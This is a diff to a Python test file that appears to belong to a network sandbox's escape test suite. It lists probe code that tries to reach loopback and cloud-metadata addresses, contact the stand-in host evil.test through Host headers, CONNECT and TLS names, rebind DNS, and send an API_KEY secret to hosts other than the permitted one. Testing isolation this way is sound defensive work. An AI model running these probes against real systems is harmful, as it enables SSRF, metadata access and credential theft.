@@ -7,6 +7,7 @@ from typing import NamedTuple
 
 import pytest
 
+CHECKS = {"names", "addresses", "authority", "hello"}  # taken away by `outside.without`
 POLICY = {
     "network": ["api.example.com:80", "api.example.com:443", "*.example.com:80"],
     "secrets": {"API_KEY": ["sk-live-0123456789", ["api.example.com"]]},
@@ -16,7 +17,7 @@ _TRY = "import os, socket, ssl, urllib.request\ntry:\n    {}\n    r = 'ESCAPED'\
 
 
 class Attack(NamedTuple):
-    """As in `attacks.py`; layers are those of level namespaces."""
+    """As in `attacks.py`; layers are those of level namespaces, and what the host's side checks (`CHECKS`)."""
 
     cannot: str
     code: str = ""
@@ -45,11 +46,11 @@ _ADDRESSES = (
     "[::1]",
     "169.254.169.254",
     "10.0.0.1",
-    "8.8.8.8",
     "[::ffff:127.0.0.1]",
     "[fd00:ec2::254]",
     "0.0.0.0",
 )
+_SERVED = ("127.0.0.1", "169.254.169.254", "[::ffff:127.0.0.1]")
 _MEETING = (
     "import socket\ns = socket.create_server(('127.0.0.1', 45673))\ns.settimeout(1)\ns.accept()\n'ESCAPED'",
     "import socket, time\nend, r = time.time() + 1, 'unharmed'\nwhile time.time() < end and r == 'unharmed':\n    try:\n"
@@ -83,19 +84,21 @@ ATTACKS = (
     Attack("speak_another_protocol", _TRY.format("socket.socket(2, 1, 262)"), opened_by=("seccomp",)),
     Attack("write_to_the_kernels_routes", _TRY.format("s = socket.socket(16, 3)\n    s.bind((0, 0))\n    s.send(bytes.fromhex('1c000000190005000100000000000000020000000000000000000000'))\n    assert int.from_bytes(s.recv(99)[16:20], 'little', signed=True) == 0").replace("ValueError", "AssertionError"), still_held=("seccomp",)),
     Attack("connect_to_the_hosts_loopback", _TRY.format("socket.create_connection(('127.0.0.1', {port}), 2)"), opened_by=("network landlock",), still_held=("network", "landlock seccomp")),
-    *(Attack(f"reach_{address.strip('[]').replace(':', '_')}", _get(f"http://{address}/")) for address in _ADDRESSES),
+    *(Attack(f"reach_{address.strip('[]').replace(':', '_')}", _get(f"http://{address}/")) for address in _ADDRESSES if address not in _SERVED),
+    *(Attack(f"reach_{address.strip('[]').replace(':', '_')}", _get(f"http://{address}/"), opened_by=("names addresses",), still_held=("names", "addresses")) for address in _SERVED),
+    Attack("reach_an_address_that_no_entry_names", _get("http://8.8.8.8/"), opened_by=("names",)),
     *(Attack(f"reach_{address.strip('[]').replace(':', '_')}_by_tls", _get(f"https://{address}/")) for address in _ADDRESSES[:3]),
-    Attack("reach_another_name", _get("http://evil.test/")),
+    Attack("reach_another_name", _get("http://evil.test/"), opened_by=("names",)),
     Attack("reach_another_port", _TRY.format("socket.create_connection(('api.example.com', 8080), 2)"), still_held=("landlock", "seccomp landlock")),
     Attack("ask_another_name_server", _say("8.8.8.8", 53, bytes.fromhex("001b123401000001000000000000046576696c04746573740000010001"), lack=b"\x83")),
-    *(Attack(f"follow_a_redirect_to_{place}", _get(f"http://api.example.com/{place}")) for place in ("evil", "metadata", "loopback", "port")),
-    *(Attack(f"reach_what_{name}_leads_to", _get(f"http://{name}.example.com/")) for name in ("loopback", "metadata", "mapped", "mixed", "inner")),
+    *(Attack(f"follow_a_redirect_to_{place}", _get(f"http://api.example.com/{place}"), opened_by=opened) for place, opened in (("evil", ("names",)), ("metadata", ("names addresses",)), ("loopback", ("names addresses",)), ("port", ()))),
+    *(Attack(f"reach_what_{name}_leads_to", _get(f"http://{name}.example.com/"), opened_by=("addresses",)) for name in ("loopback", "metadata", "mapped", "mixed", "inner")),
     Attack("rebind_a_name", "import urllib.request\nr = []\nfor n in range(4):\n    try:\n        r.append(urllib.request.urlopen('http://rebinding.example.com/').status)\n    except OSError:\n        pass\n'ESCAPED' if len(r) > 1 else r"),
-    Attack("ask_an_allowed_host_for_another", _say("api.example.com", 80, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")),
+    Attack("ask_an_allowed_host_for_another", _say("api.example.com", 80, b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"), opened_by=("authority",)),
     Attack("ask_by_an_absolute_target", _say("api.example.com", 80, b"GET http://evil.test/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n")),
     Attack("tunnel_elsewhere", _say("api.example.com", 80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")),
-    Attack("name_another_host_by_tls", _TRY.format("c = ssl._create_unverified_context()\n    c.wrap_socket(socket.create_connection(('api.example.com', 443), 3), server_hostname='evil.test')")),
-    Attack("name_no_host_by_tls", _TRY.format("c = ssl._create_unverified_context()\n    c.wrap_socket(socket.create_connection(('api.example.com', 443), 3))")),
+    Attack("name_another_host_by_tls", _TRY.format("c = ssl._create_unverified_context()\n    c.wrap_socket(socket.create_connection(('api.example.com', 443), 3), server_hostname='evil.test')"), opened_by=("hello",)),
+    Attack("name_no_host_by_tls", _TRY.format("c = ssl._create_unverified_context()\n    c.wrap_socket(socket.create_connection(('api.example.com', 443), 3))"), opened_by=("hello",)),
     Attack("listen", _TRY.format(_LISTEN.format("127.0.0.1", 45672)), opened_by=("seccomp landlock",), still_held=("seccomp", "landlock")),
     *(Attack(f"take_the_services_place_at_{port}", _TRY.format(_LISTEN.format("198.18.0.1", port)), still_held=("seccomp", "landlock", "seccomp landlock")) for port in (53, 80, 443)),
     Attack("meet_a_sibling_over_loopback", pair=_MEETING, opened_by=("network seccomp landlock",), still_held=("seccomp landlock", "network landlock", "network seccomp")),
@@ -107,7 +110,7 @@ ATTACKS = (
     Attack("have_a_secret_sent_without_tls", "import os, urllib.request as u\nr = u.urlopen(u.Request('http://api.example.com/', headers={{'K': os.environ['API_KEY']}})).read()\n'ESCAPED' if b'******' in r or b'sk-live' in r else r", policy=POLICY),
     Attack("have_a_secret_sent_elsewhere", "import os, urllib.request as u\nr = u.urlopen(u.Request('http://www.example.com/', headers={{'K': os.environ['API_KEY']}})).read()\n'ESCAPED' if b'sk-live' in r or b'****' in r else r", policy=POLICY),
     Attack("see_a_secret_in_an_echo", "import os, urllib.request as u\nr = u.urlopen(u.Request('https://api.example.com/', headers={{'K': os.environ['API_KEY']}})).read()\n'ESCAPED' if b'sk-live' in r or b'****' not in r else r", policy=POLICY),
-    Attack("keep_a_listener_of_the_service", "import os, socket\nfound = []\nfor n in range(3, 256):\n    try:\n        found.append(socket.socket(fileno=n).family)\n    except OSError:\n        pass\n'ESCAPED' if {socket.AF_INET, socket.AF_INET6} & {*found} else found", opened_by=("descriptors",)),
+    Attack("keep_a_listener_of_the_service", "import os, socket\nfound = []\nfor n in range(3, 256):\n    try:\n        s = socket.socket(fileno=n)\n        found.append(s.family)\n        s.detach()\n    except OSError:\n        pass\n'ESCAPED' if {socket.AF_INET, socket.AF_INET6} & {*found} else found", opened_by=("descriptors",)),
     Attack("pass_descriptors_to_itself", _TRY.format("a, b = socket.socketpair()\n    socket.send_fds(a, [b'x'], [0])"), opened_by=("seccomp",)),
     Attack("take_larger_buffers", _TRY.format("socket.socket().setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)"), opened_by=("seccomp",)),
 )  # fmt: skip
@@ -124,7 +127,9 @@ def _job(attack: Attack, port: int, without: str = "") -> dict:
     def aimed(code: str) -> str:
         return code.replace("{port}", str(port)).replace("{{", "{").replace("}}", "}")
 
-    job = {"name": attack.cannot, "policy": attack.policy, "without": without.split(), "outside": True}
+    left = {part: part in CHECKS for part in without.split()}
+    job = {"name": attack.cannot, "policy": attack.policy, "outside": True}
+    job |= {"without": [part for part in left if not left[part]], "unchecked": [part for part in left if left[part]]}
     if attack.pair or attack.branches:
         return job | {"pair" if attack.pair else "branches": [aimed(code) for code in attack.pair or attack.branches]}
     return job | {"codes": [aimed(attack.code)]}
